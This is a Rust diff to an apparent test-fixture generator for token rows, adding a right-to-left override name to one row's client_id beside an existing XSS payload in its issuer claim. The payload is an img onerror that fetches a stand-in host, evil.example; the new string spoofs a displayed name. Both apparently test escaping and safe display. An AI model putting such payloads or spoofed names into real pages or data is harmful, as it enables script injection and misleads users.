@@ -9,6 +9,8 @@ use std::collections::BTreeMap;
 pub const HOSTILE: &str = "<img src=x onerror=\"window.ran=1;fetch('http://evil.example/')\">";
 /// Which row has it.
 pub const HOSTILE_ROW: usize = 3;
+/// A name that is shown as another where a text may turn the direction of reading, and how it must be shown.
+pub const TURNED: [&str; 2] = ["web\u{202e}sredro", "web\\u{202e}sredro"];
 
 const STATUS: [&str; 5] = ["unexpired", "expired", "unknown", "revoked", "not_yet"];
 const SOURCES: [&str; 4] = ["nginx", "orders-api", "gateway", "batch"];
@@ -45,7 +47,7 @@ pub fn row(number: usize, now: Timestamp) -> Value {
     let claims = is_jwt.then(|| {
         json!({"verified": false, "alg": "RS256", "kid": format!("key-{}", number % 7), "typ": "at+jwt",
             "iss": if number == HOSTILE_ROW { HOSTILE.to_owned() } else { format!("https://issuer-{}.example/realms/main", number % 9) },
-            "aud": ["https://orders.example"], "client_id": "orders-web", "scope": "orders:read orders:write",
+            "aud": ["https://orders.example"], "client_id": if number == HOSTILE_ROW { TURNED[0] } else { "orders-web" }, "scope": "orders:read orders:write",
             "exp": expires, "nbf": (status == "not_yet").then(|| now.checked_add(1_800.seconds()).unwrap()), "cnf": false,
             "sub_fingerprint": format!("{:032x}", number * 31 + 7), "principal": "workload", "has_payload": true})
     });
